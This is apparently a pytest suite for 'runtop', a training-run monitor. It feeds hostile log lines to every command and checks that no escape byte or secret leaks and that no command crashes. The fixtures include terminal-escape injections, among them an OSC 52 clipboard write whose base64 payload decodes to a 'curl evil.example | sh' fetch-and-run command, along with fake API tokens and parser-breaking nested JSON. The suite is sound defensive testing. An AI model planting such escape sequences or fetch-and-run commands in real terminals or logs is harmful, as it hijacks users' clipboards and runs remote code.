"""Hostile input: the sample run plus one hostile line or file, through every
headless command. No command dies (exit 70), no escape byte and no secret reaches any
output, and the bad record is counted and named instead of taking the run down with it.
"""

from __future__ import annotations

import io
import json
import os
from contextlib import redirect_stderr, redirect_stdout

import pytest

from runtop.cli.main import main
from runtop.frameworks.primerl.sim import Simulator
from runtop.frameworks.skyrl.sim import RUN_NAME as SKYRL_RUN
from runtop.frameworks.skyrl.sim import SkyrlSimulator
from tests.inner import first_of_each

SECRETS = {
    "hf": "hf_" + "Q" * 30,
    "ghp": "ghp_" + "R" * 36,
    "sk": "sk-" + "S" * 40,
    "skproj": "sk-proj-" + "T" * 40,
    "basic": "dXNlcjpzM2NyM3RwYXNzd29yZA==",
    "userinfo": "hunter2pass",
    "aws": "wJalrXUtnFEMIxK7MDENGxbPxRfiCYEXAMPLEKEY",
    "quoted": "correct horse battery",
    "xoxb": "xoxb-1234567890-ABCDEFGHIJ",
    "akia": "AKIA" + "Z" * 16,
    "wandb": "W" * 40,
}

# (name, file relative to the run, hostile text). Log lines are ERROR records so their text
# reaches the check-in's notes and the JSON's errors: the outputs where a leak would show.
LOG = "logs/attempt_1/orchestrator.log"
INF = "logs/attempt_1/inference.log"
TRAINER = "logs/attempt_1/trainer.log"
CASES = [
    ("vllm-stat-1.2.3", INF, "(APIServer pid=7) INFO 08-21 14:09:27 [loggers.py:257] Engine 000: Avg prompt throughput: 1.2.3 tokens/s, Running: 4 reqs\n"),
    ("vllm-stat-dot", INF, "(APIServer pid=7) INFO 08-21 14:09:27 [loggers.py:257] Engine 000: Avg prompt throughput: . tokens/s, Waiting: 1e999 reqs\n"),
    ("turns-superscript", LOG, "14:09:01    INFO rollout done: id=9 reward=1.0 turns=² stop=max_turns\n"),
    ("huge-int", LOG, "14:09:01 SUCCESS Step " + "9" * 5000 + " | 31.0s | Reward 0.5\n"),
    ("metrics-deep", "metrics.jsonl", '{"step": 3, "loss/mean": ' + "[" * 5000 + "]" * 5000 + "}\n"),
    ("metrics-nan-time", "metrics.jsonl", '{"step": 3, "loss/mean": NaN, "time/step": Infinity, "time/forward_backward": -Infinity}\n'),
    ("traces-deep", "rollouts/step_1/train/all/traces.jsonl", "[" * 100000 + "]" * 100000 + "\n"),
    ("traces-nan-score", "rollouts/step_1/train/all/traces.jsonl", '{"traces": [{"rewards": {"r": {"score": NaN, "weight": Infinity}}, "nodes": []}]}\n'),
    ("config-deep", "configs/rl.toml", "a = " + "[" * 5000 + "]" * 5000 + "\n"),
    ("osc52", LOG, "14:09:02   ERROR paste \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 done\n"),
    ("osc2-title", LOG, "14:09:02   ERROR title \x1b]2;pwned\x1b\\ done\n"),
    ("bel-osc-hides-lines", LOG, "14:09:02   ERROR lost bel \x1b]0;unterminated\n14:09:03   ERROR after-the-osc-line\n"),
    ("dcs-apc-pm-sos", LOG, "14:09:02   ERROR dcs \x1bPq#0;2;0;0;0\x1b\\ apc \x1b_hidden\x1b\\ pm \x1b^x\x1b\\ sos \x1bXy\x1b\\\n"),
    ("c1-csi-bidi", LOG, "14:09:02   ERROR c1 \u009b31m red \u202eevil\u202c \x08\x7f\x00 done\n"),
    ("secret-hf-ghp", LOG, f"14:09:02   ERROR pushing with {SECRETS['hf']} and {SECRETS['ghp']}\n"),
    ("secret-json", LOG, f'14:09:02   ERROR client config {{"api_key": "{SECRETS["sk"]}"}}\n'),
    ("secret-flag", LOG, f"14:09:02   ERROR launch: uv run rl --api-key {SECRETS['sk']} --max-tokens 128\n"),
    ("secret-userinfo", LOG, f"14:09:02   ERROR cannot reach https://admin:{SECRETS['userinfo']}@10.0.0.1/v1\n"),
    ("secret-basic", LOG, f"14:09:02   ERROR request headers Authorization: Basic {SECRETS['basic']}\n"),
    ("secret-aws", LOG, f"14:09:02   ERROR env AWS_SECRET_ACCESS_KEY={SECRETS['aws']} region=us-east-1\n"),
    ("secret-quoted", LOG, f"14:09:02   ERROR env DB_PASSWORD=\"{SECRETS['quoted']}\" next\n"),
    ("secret-openai", LOG, f"14:09:02   ERROR openai.AuthenticationError: Incorrect API key provided: {SECRETS['skproj']}. You can find your API key at …\n"),
    ("secret-slack-aws", LOG, f"14:09:02   ERROR tokens {SECRETS['xoxb']} {SECRETS['akia']}\n"),
    ("secret-wandb", LOG, f"14:09:02   ERROR + export WANDB_API_KEY={SECRETS['wandb']}\n"),
]
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\u202e", "\x00", "\x08", "\x7f")


def run_cli(*argv: str) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue() + err.getvalue()


def assert_clean(text: str) -> None:
    for ch in FORBIDDEN:
        assert ch not in text, f"{ch!r} reached the output"
    for name, secret in SECRETS.items():
        assert secret not in text, f"secret {name} leaked"
    assert "internal error" not in text


@pytest.fixture(scope="module")
def sample_run(tmp_path_factory):
    root = str(tmp_path_factory.mktemp("hostile") / "sample")
    Simulator(root, scenario="healthy", max_steps=3).run()
    return root


def hostile_copy(sample_run: str, tmp_path, rel: str, text: str) -> str:
    import shutil

    root = str(tmp_path / "run")
    shutil.copytree(sample_run, root, symlinks=True)
    path = os.path.join(root, rel)
    with open(path, "ab") as f:
        f.write(text.encode("utf-8", "surrogatepass"))
    return root


# The first few in the inner loop, every one in CI (`slow`): each case runs every command.
@pytest.mark.parametrize("name,rel,text", first_of_each(CASES, family=lambda c: "hostile", keep=4, ids=lambda c: c[0]))
def test_one_hostile_line_kills_no_command_and_leaks_nothing(sample_run, tmp_path, name, rel, text):
    root = hostile_copy(sample_run, tmp_path, rel, text)
    code, md = run_cli("status", root)
    assert code == 0, md
    assert_clean(md)
    code, js = run_cli("status", "--json", root)
    assert code == 0, js
    assert_clean(js)
    doc = json.loads(js)  # strict JSON: no NaN or Infinity
    assert doc["progress"]["trainer_step"] == 3, "the good lines around the bad one are still read"
    code, out = run_cli("check", root)
    assert code in (0, 1, 2), out
    assert_clean(out)
    code, out = run_cli("status", "--append", root)
    assert code == 0, out
    with open(os.path.join(root, "STATUS.md"), encoding="utf-8") as f:
        assert_clean(f.read())
    code, out = run_cli("watch", root, "--every", "1s", "--count", "1", "--interval", "0.05")
    assert code == 0, out
    assert_clean(out)


def test_an_unterminated_osc_does_not_hide_the_next_line(sample_run, tmp_path):
    root = hostile_copy(sample_run, tmp_path, LOG, CASES[11][2])
    _, md = run_cli("status", root)
    assert "after-the-osc-line" in md


def test_a_record_that_breaks_a_parser_is_counted_and_named(sample_run, tmp_path, monkeypatch):
    from runtop.parsers import primerl

    real = primerl.parse_record

    def brittle(rec, role):
        if "POISON" in rec.message:
            raise ValueError("cannot read this")
        return real(rec, role)

    monkeypatch.setattr(primerl, "parse_record", brittle)
    root = hostile_copy(sample_run, tmp_path, TRAINER, "14:09:05    INFO POISON here\n14:09:06   ERROR after the poison\n")
    code, js = run_cli("status", "--json", root)
    assert code == 0
    doc = json.loads(js)
    entry = next(f for f in doc["files"] if f["path"].endswith("trainer.log"))
    with open(os.path.join(root, TRAINER), encoding="utf-8") as f:
        poison_line = next(i for i, line in enumerate(f, 1) if "POISON" in line)
    assert entry["unparsed"] == {"count": 1, "last_line": poison_line, "reason": "ValueError: cannot read this"}
    assert any("after the poison" in e["message"] for e in doc["errors"])
    _, md = run_cli("status", root)
    assert f"could not be parsed and were skipped (last: line {poison_line}" in md


def test_a_superscript_in_skyrl_latest_txt_is_no_step(tmp_path):
    root = str(tmp_path / "sky")
    SkyrlSimulator(root, max_steps=2).run()
    with open(os.path.join(root, "ckpts", "latest_ckpt_global_step.txt"), "w") as f:
        f.write("²")
    log = os.path.join(root, "logs", f"{SKYRL_RUN}.log")
    code, js = run_cli("status", "--json", log)
    assert code == 0, js
    doc = json.loads(js)
    assert all(not c["complete"] for c in doc["checkpoints"]), "no readable latest step: nothing is proven complete"


def test_a_bad_skyrl_launch_line_keeps_the_checkpoint_dir():
    from runtop.parsers.skyrl_agent import launch_config

    cfg = launch_config("python -m skyrl_train.entrypoints.main_base trainer.ckpt_path=/ck trainer.train_batch_size=² generator.n_samples_per_prompt=٥")
    assert cfg is not None and cfg.ckpt_dir == "/ck" and cfg.batch_rollouts is None


# ---- outputs ----------------------------------------------------------------------------
def test_a_symlinked_status_md_is_refused(sample_run, tmp_path):
    root = hostile_copy(sample_run, tmp_path, LOG, "")
    target = tmp_path / "elsewhere.md"
    target.write_text("precious\n")
    os.symlink(target, os.path.join(root, "STATUS.md"))
    code, out = run_cli("status", "--append", root)
    assert code == 2 and "symbolic link" in out and out.count("\n") == 1
    assert target.read_text() == "precious\n"


def test_a_directory_status_md_is_one_line_and_watch_keeps_going(sample_run, tmp_path):
    root = hostile_copy(sample_run, tmp_path, LOG, "")
    os.mkdir(os.path.join(root, "STATUS.md"))
    code, out = run_cli("status", "--append", root)
    assert code == 2 and "is a directory" in out
    code, out = run_cli("watch", root, "--every", "0.1s", "--count", "2", "--interval", "0.05")
    assert code == 2 and out.count("NOT written") == 2, out


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through file permissions")
def test_a_read_only_status_md_is_one_line(sample_run, tmp_path):
    root = hostile_copy(sample_run, tmp_path, LOG, "")
    path = os.path.join(root, "STATUS.md")
    open(path, "w").close()
    os.chmod(path, 0o444)
    code, out = run_cli("status", "--append", root)
    assert code == 2 and "Permission denied" in out


def test_an_audit_log_dir_symlinked_out_of_the_run_is_refused(sample_run, tmp_path):
    from runtop.actions.dispatch import audit
    from runtop.actions.vetted import ActionError, Context, Plan
    from runtop.sources.tmux import Tmux
    from runtop.state.run import RunState

    root = hostile_copy(sample_run, tmp_path, LOG, "")
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, os.path.join(root, ".runtop"))
    ctx = Context(state=RunState(path=root), run_root=root, tmux=Tmux(None))
    with pytest.raises(ActionError, match=".runtop is a symbolic link"):
        audit(ctx, Plan(name="stop", description="", text=f"echo {SECRETS['sk']}"), None, "ok")
    assert not list(outside.iterdir())


# ---- the TUI ---------------------------------------------------------------------------
async def test_the_tui_shows_no_escape_and_no_secret_and_toasts_masked(sample_run, tmp_path):
    """Every hostile line at once, plus a crash whose message carries a key: the screen,
    every pane zoomed in turn, and the toast show none of them raw."""
    from tests.live.test_tui import BIG
    from tests.screen_text import screen_text
    from tests.tui_helpers import make_app, settle

    root = hostile_copy(sample_run, tmp_path, LOG, "".join(c[2] for c in CASES if c[1] == LOG))
    with open(os.path.join(root, INF), "a", encoding="utf-8") as f:
        f.write("".join(c[2] for c in CASES if c[1] == INF))
    app = make_app(root, fixed=False, processes=False, disks=False, interval=0.2)
    async with app.run_test(size=BIG) as pilot:
        await settle(pilot)
        with open(os.path.join(root, TRAINER), "a", encoding="utf-8") as f:
            f.write(
                f"14:20:00   ERROR Fatal error in train\nTraceback (most recent call last):\n"
                f"RuntimeError: upload failed for token {SECRETS['hf']} \x1b]52;c;ZXZpbA==\x07\n"
            )
        for _ in range(50):
            await pilot.pause(0.1)
            if any("RuntimeError" in n for n in app.toasts):
                break
        texts = [screen_text(app)]
        for key in "123456789":
            await pilot.press(key)
            await pilot.pause(0.05)
            texts.append(screen_text(app))
            await pilot.press(key)
        toasts = list(app.toasts)
        assert any("RuntimeError" in t for t in toasts), "the crash was toasted"
        for text in texts + toasts:
            assert_clean(text)


def test_a_tui_that_crashes_exits_non_zero(sample_run, monkeypatch, capsys):
    from runtop.cli import main as cli
    from runtop.frameworks.discovery import discover
    from runtop.tui import app as appmod

    real_run = appmod.RuntopApp.run

    def boom(self) -> None:
        raise RuntimeError("a bug in a pane")

    monkeypatch.setattr(appmod.RuntopApp, "on_mount", boom)
    monkeypatch.setattr(appmod.RuntopApp, "run", lambda self, **kw: real_run(self, headless=True))
    args = cli.build_parser().parse_args(["tui", sample_run])
    from runtop.cli import live as cli_live

    assert cli_live._run_tui(discover(sample_run), args) == cli.EXIT_INTERNAL
    assert "the TUI stopped on an internal error" in capsys.readouterr().err


def test_runtop_actions_shows_the_launch_command_redacted(sample_run):
    key = SECRETS["sk"]
    code, out = run_cli(
        "actions", sample_run, "--tmux-socket", f"runtop-none-{os.getpid()}",
        "--launch-cmd", f"WANDB_API_KEY={SECRETS['wandb']} uv run rl @ configs/rl.toml --api-key {key}",
    )
    assert code == 0 and "would send: WANDB_API_KEY=*** uv run rl @ configs/rl.toml --api-key ***" in out
    assert_clean(out)
